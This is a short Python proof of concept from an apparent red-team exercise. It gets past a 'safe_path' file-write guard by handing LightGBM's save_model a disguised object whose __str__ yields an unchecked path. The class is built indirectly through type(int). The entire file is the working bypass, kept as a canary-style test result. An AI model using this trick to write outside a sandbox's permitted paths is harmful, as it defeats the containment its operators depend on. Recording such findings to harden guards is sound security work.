# (f)/(d) Booster.save_model path given as a non-PathLike object with __str__ (safe_path passes "file objects" through; lightgbm calls str()); driver sees {CANARY}.pwned_lgb_model.txt created
# red team 2026-12-07, docs/redteam-2026-12-07/success_06_lgb_save_model_str_obj.py.txt
import lightgbm as lgb
import numpy as np

T = type(int)
P = T("P", (), {"__str__": lambda self: "{CANARY}.pwned_lgb_model.txt"})
X = np.random.rand(50, 3)
y = np.random.rand(50)
b = lgb.train({"verbose": -1}, lgb.Dataset(X, y), num_boost_round=2)
b.save_model(P())
